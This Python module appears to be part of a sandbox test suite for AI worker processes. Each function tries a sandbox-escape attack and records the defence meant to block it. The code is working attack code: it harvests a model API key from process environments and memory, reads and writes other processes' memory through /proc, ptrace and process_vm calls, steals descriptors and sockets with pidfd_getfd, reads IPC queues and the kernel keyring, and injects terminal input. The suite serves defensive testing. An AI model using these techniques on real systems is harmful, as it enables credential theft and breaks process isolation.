"""Other processes: their environment, memory, descriptors, signals, shared memory and keys."""

import ctypes
import glob
import os
import re
import signal
import struct
import time
from typing import Callable, Optional, Tuple

from .calls import LIBC, call, libc
from .registry import MARK, Blocked, World, attack, canary_in

__all__ = ["REAL_KEY", "held"]

_OWN_PIDS = "the sandbox has process ids of its own: others can't be named"
_OWN_IPC = "the sandbox has an IPC namespace of its own"
REAL_KEY = re.compile(rb"sk-real-key-[0-9a-f]{16}")
"""The key of the model's endpoint."""


def _real_key(data: bytes) -> Optional[bytes]:
    found = REAL_KEY.search(data)
    return found.group() if found else None


@attack("host", "the worker's environment is made from nothing; the framework gets a run token in place of the key")
def key_in_own_environment(world: World) -> Optional[bytes]:
    """Find the real model key in the worker's environment variables"""
    with open("/proc/self/environ", "rb") as file:
        return _real_key(file.read()) or _real_key("\n".join(os.environ.values()).encode())


@attack("host", "the key never enters the worker: the host puts it into the request that it sends", timeout_s=30.0)
def key_in_own_memory(world: World) -> Optional[bytes]:
    """Find the real model key in the worker's memory"""
    return _scan(os.getpid(), _real_key)


@attack("sandbox", _OWN_PIDS)
def key_in_hosts_environment(world: World) -> Optional[bytes]:
    """Find the real model key in the environment of the host, or of any process"""
    for path in ["/proc/%d/environ" % world.host_pid, *glob.glob("/proc/[0-9]*/environ")]:
        try:
            with open(path, "rb") as file:
                found = _real_key(file.read())
        except OSError:
            continue
        if found:
            return found
    return None


@attack("sandbox", _OWN_PIDS, timeout_s=30.0)
def key_in_hosts_memory(world: World) -> Optional[bytes]:
    """Find the real model key in the host's memory"""
    return _scan(world.host_pid, _real_key)


def _scan(pid: int, find: Callable[[bytes], Optional[bytes]]) -> Optional[bytes]:
    """Return what is found in the writable memory of a process."""
    with open("/proc/%d/maps" % pid) as maps, open("/proc/%d/mem" % pid, "rb", 0) as memory:
        for line in maps:
            span, rights = line.split()[:2]
            if "rw" not in rights:
                continue
            start, end = (int(each, 16) for each in span.split("-"))
            for place in range(start, end, 1 << 24):
                try:
                    memory.seek(place)
                    found = find(memory.read(min(end - place, (1 << 24) + 64)))
                except (OSError, ValueError, OverflowError):
                    continue
                if found:
                    return found
    return None


@attack("sandbox", _OWN_PIDS + "; other users' are closed to it", who="root", canary="other-environ")
def environment_of_other_user(world: World) -> Optional[bytes]:
    """Read the environment of another user's process"""
    with open("/proc/%d/environ" % world.others_pid, "rb") as file:
        return canary_in(file.read())


@attack("sandbox", "every worker has a sandbox of its own", canary="victim-environ")
def environment_of_other_worker(world: World) -> Optional[bytes]:
    """Read the environment of another worker's process"""
    with open("/proc/%d/environ" % world.victim["child_pid"], "rb") as file:
        return canary_in(file.read())


@attack("sandbox", "every worker has a sandbox of its own", canary="victim-memory", timeout_s=30.0)
def memory_of_other_worker(world: World) -> Optional[bytes]:
    """Read the memory of another worker"""
    with open("/proc/%d/mem" % world.victim["pid"], "rb", 0) as memory:
        memory.seek(world.victim["address"])
        return canary_in(memory.read(64))


@attack("sandbox", "every worker has a sandbox of its own", changes="victim-signalled")
def signal_to_other_worker(world: World) -> Optional[str]:
    """Send a signal to another worker"""
    os.kill(world.victim["pid"], signal.SIGUSR2)
    time.sleep(0.3)
    return "signalled"


@attack("sandbox", "every worker has a sandbox of its own")
def token_of_other_worker(world: World) -> Optional[str]:
    """Take another worker's run token out of its memory and use it at its door"""
    found = _scan(world.victim["pid"], lambda data: (re.search(rb"af-run-[\w-]{20,}", data) or [None])[0])
    return "found %s..." % found[:12].decode() if found else None


@attack("sandbox", _OWN_PIDS, canary="bystander-memory")
def process_vm_read(world: World) -> Optional[bytes]:
    """Read another process's memory (`process_vm_readv`)"""
    size = 64
    buffer = ctypes.create_string_buffer(size)
    local = struct.pack("PN", ctypes.addressof(buffer), size)
    remote = struct.pack("PN", world.bystander["address"], size)
    call("process_vm_readv", world.bystander["pid"], ctypes.c_char_p(local), 1, ctypes.c_char_p(remote), 1, 0)
    return canary_in(buffer.raw)


@attack("sandbox", _OWN_PIDS, changes="bystander-written")
def process_vm_write(world: World) -> Optional[str]:
    """Write into another process's memory (`process_vm_writev`)"""
    data = MARK.encode()
    buffer = ctypes.create_string_buffer(data)
    local = struct.pack("PN", ctypes.addressof(buffer), len(data))
    remote = struct.pack("PN", world.bystander["writable"], len(data))
    call("process_vm_writev", world.bystander["pid"], ctypes.c_char_p(local), 1, ctypes.c_char_p(remote), 1, 0)
    time.sleep(0.3)
    return "written"


@attack("sandbox", _OWN_PIDS + "; ptrace is filtered", canary="bystander-memory")
def ptrace_attach(world: World) -> Optional[bytes]:
    """Attach to another process with ptrace and read its memory"""
    return _traced(world, 16)


@attack("sandbox", _OWN_PIDS + "; ptrace is filtered", canary="bystander-memory")
def ptrace_seize(world: World) -> Optional[bytes]:
    """Seize another process with ptrace and read its memory"""
    return _traced(world, 0x4206)


def _traced(world: World, how: int) -> Optional[bytes]:
    pid = world.bystander["pid"]
    call("ptrace", how, pid, 0, 0)
    try:
        if how != 16:
            call("ptrace", 0x4207, pid, 0, 0)  # INTERRUPT
        os.waitpid(pid, 0x40000000)  # __WALL
        words = b""
        for place in range(0, 64, 8):
            word = ctypes.c_long()
            call("ptrace", 2, pid, world.bystander["address"] + place, ctypes.byref(word))
            words += struct.pack("l", word.value)
        return canary_in(words)
    finally:
        LIBC.ptrace(17, pid, None, None)  # DETACH


@attack("sandbox", "the process that holds the sandbox has given its descriptors up to nobody: its `/proc` is closed")
def descriptors_of_the_fence(world: World) -> Optional[str]:
    """Open files of the host's through descriptors of the processes that hold the sandbox, or through own ones"""
    found = []
    for path in glob.glob("/proc/[0-9]*/fd/*"):
        try:
            opened = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            continue
        if os.readlink("/proc/self/fd/%d" % opened).startswith(world.state):
            found.append("%s: %s" % (path, os.readlink(path)))
        os.close(opened)
    return "opened " + ", ".join(found) if found else None


def held() -> bool:
    """Whether process 1 is what holds a sandbox, and not the machine's own; closed to others or not."""
    try:
        with open("/proc/1/comm") as file:
            return file.read().strip() == "bwrap"
    except OSError:
        return True


@attack("sandbox", "the process that holds the sandbox is no other's to read: its `/proc` is closed")
def memory_of_the_fence(world: World) -> Optional[str]:
    """Write into the memory of the process that holds the sandbox; of one of the same user, without"""
    for pid in (1,) if held() else (world.bystander["pid"],):
        try:
            with open("/proc/%d/mem" % pid, "r+b", 0) as memory, open("/proc/%d/maps" % pid) as maps:
                place = next(int(line.split("-")[0], 16) for line in maps if " rw-p" in line)
                memory.seek(place)
                byte = memory.read(1)
                memory.seek(place)
                memory.write(byte)
                return "wrote to process %d" % pid
        except (OSError, StopIteration):
            pass
    return None


@attack("sandbox", "ptrace is filtered")
def ptrace_own_child(world: World) -> Optional[str]:
    """Trace a child of one's own: what changes its system calls behind the filter's back on old kernels"""
    child = os.fork()
    if not child:
        try:
            call("ptrace", 0, 0, 0, 0)  # TRACEME
            os.kill(os.getpid(), signal.SIGSTOP)
        finally:
            os._exit(3)
    _, status = os.waitpid(child, os.WUNTRACED)
    if not os.WIFSTOPPED(status):
        return None
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)
    return "a child is traced"


@attack("sandbox", _OWN_PIDS, changes="bystander-signalled")
def signal_to_process(world: World) -> Optional[str]:
    """Send a signal to a process of the same user"""
    os.kill(world.bystander["pid"], signal.SIGURG)
    time.sleep(0.3)
    return "signalled"


@attack("sandbox", _OWN_PIDS, changes="bystander-signalled")
def signal_to_all(world: World) -> Optional[str]:
    """Send a signal to every process there is (`kill -1`; one that most ignore)"""
    os.kill(-1, signal.SIGURG)
    time.sleep(0.3)
    return "signalled"


@attack("sandbox", _OWN_PIDS, changes="bystander-signalled")
def signal_by_pidfd(world: World) -> Optional[str]:
    """Send a signal through a process descriptor"""
    descriptor = call("pidfd_open", world.bystander["pid"], 0)
    call("pidfd_send_signal", descriptor, int(signal.SIGURG), 0, 0)
    time.sleep(0.3)
    return "signalled"


@attack("sandbox", _OWN_PIDS + "; the call is filtered", canary="bystander-descriptor")
def steal_descriptor(world: World) -> Optional[bytes]:
    """Take an open descriptor out of another process (`pidfd_getfd`)"""
    process = call("pidfd_open", world.bystander["pid"], 0)
    descriptor = call("pidfd_getfd", process, world.bystander["descriptor"], 0)
    return canary_in(os.pread(descriptor, 4096, 0))


@attack("sandbox", _OWN_PIDS)
def steal_hosts_socket(world: World) -> Optional[str]:
    """Take a socket out of the host (`pidfd_getfd`): a door of another worker, or the wire to it"""
    process = call("pidfd_open", world.host_pid, 0)
    for number in range(3, 64):
        try:
            descriptor = call("pidfd_getfd", process, number, 0)
        except OSError as error:
            if error.errno == 9:  # not open
                continue
            raise
        if os.readlink("/proc/self/fd/%d" % descriptor).startswith("socket:"):
            return "took a socket"
    return None


@attack("sandbox", _OWN_PIDS)
def limits_of_other_process(world: World) -> Optional[str]:
    """Change the limits of another process (`prlimit`)"""
    before = _prlimit(world.bystander["pid"])
    _prlimit(world.bystander["pid"], before)
    return "its limits were set"


def _prlimit(pid: int, given: Optional[Tuple[int, int]] = None) -> Tuple[int, int]:
    old = ctypes.create_string_buffer(16)
    new = ctypes.c_char_p(struct.pack("QQ", *given)) if given else None
    libc("prlimit", pid, 7, new, old)  # RLIMIT_NOFILE
    soft, hard = struct.unpack("QQ", old.raw)
    return soft, hard


@attack("sandbox", _OWN_PIDS)
def schedule_other_process(world: World) -> Optional[str]:
    """Change the scheduling of another process"""
    os.sched_setaffinity(world.bystander["pid"], os.sched_getaffinity(world.bystander["pid"]))
    return "its processors were set"


@attack("sandbox", _OWN_PIDS, canary="command-line")
def list_processes(world: World) -> Optional[bytes]:
    """See other processes and their command lines"""
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as file:
                found = canary_in(file.read())
        except OSError:
            continue
        if found:
            return found
    return None


@attack("sandbox", _OWN_IPC, canary="sysv")
def sysv_shared_memory(world: World) -> Optional[bytes]:
    """Attach shared memory of System V"""
    number = call("shmget", world.ipc_key, 0, 0)
    place = call("shmat", number, 0, 0o10000)
    return canary_in(ctypes.string_at(place, 64))


@attack("sandbox", _OWN_IPC, canary="message-queue")
def sysv_messages(world: World) -> Optional[bytes]:
    """Read a message queue of System V"""
    buffer = ctypes.create_string_buffer(256)
    number = call("msgget", world.ipc_key, 0)
    call("msgrcv", number, buffer, 248, 0, 0o44000)  # IPC_NOWAIT, MSG_COPY: it stays in the queue
    return canary_in(buffer.raw)


@attack("sandbox", _OWN_IPC, canary="posix-queue")
def posix_messages(world: World) -> Optional[bytes]:
    """Open a POSIX message queue"""
    buffer = ctypes.create_string_buffer(8192)
    queue = call("mq_open", ctypes.c_char_p(world.queue_name.encode()), os.O_RDWR | os.O_NONBLOCK, 0, 0)
    size = call("mq_timedreceive", queue, buffer, 8192, 0, 0)
    return canary_in(buffer.raw[:size])


@attack("sandbox", "the calls of the keyring are filtered", canary="keyring")
def read_keyring(world: World) -> Optional[bytes]:
    """Read a key out of the user's keyring"""
    found = call("keyctl", 10, -4, ctypes.c_char_p(b"user"), ctypes.c_char_p(world.key_name.encode()), 0)
    buffer = ctypes.create_string_buffer(256)
    call("keyctl", 11, found, buffer, 256)
    return canary_in(buffer.raw)


@attack("sandbox", "the calls of the keyring are filtered")
def add_key(world: World) -> Optional[str]:
    """Keep a key in the kernel, beyond the run's end"""
    number = call("add_key", ctypes.c_char_p(b"user"), ctypes.c_char_p(b"af-added"), ctypes.c_char_p(b"x"), 1, -2)
    call("keyctl", 15, number, 1)  # it times out
    return "added a key"


@attack("sandbox", "the calls of the keyring are filtered")
def request_key(world: World) -> Optional[str]:
    """Ask for a key by name (`request_key`)"""
    kind, name = ctypes.c_char_p(b"user"), ctypes.c_char_p(world.key_name.encode())
    try:
        return "got key %d" % call("request_key", kind, name, 0, 0)
    except OSError as error:
        if error.errno in (126, 127, 128, 129):  # no such key: it was looked for
            return "the kernel looked for it"
        raise


@attack("sandbox", _OWN_PIDS + "; the call is filtered", optional=True)
def compare_with_host(world: World) -> Optional[str]:
    """Learn about the host's memory layout (`kcmp`)"""
    call("kcmp", os.getpid(), world.host_pid, 1, 0, 0)
    return "compared"


@attack("sandbox", "the terminal of who started the host is not the worker's, and TIOCSTI is filtered", optional=True)
def type_into_terminal(world: World) -> Optional[str]:
    """Type into a terminal (TIOCSTI); one that the attack opens itself"""
    import fcntl
    import pty
    import termios

    leader, follower = pty.openpty()
    child = os.fork()
    if not child:
        code = 1
        try:
            os.setsid()
            fcntl.ioctl(follower, termios.TIOCSCTTY, 0)
            for byte in b"exit\n":
                fcntl.ioctl(follower, termios.TIOCSTI, bytes([byte]))
            code = 0
        finally:
            os._exit(code)
    _, status = os.waitpid(child, 0)
    if status:
        raise Blocked("refused")
    return "typed a line"
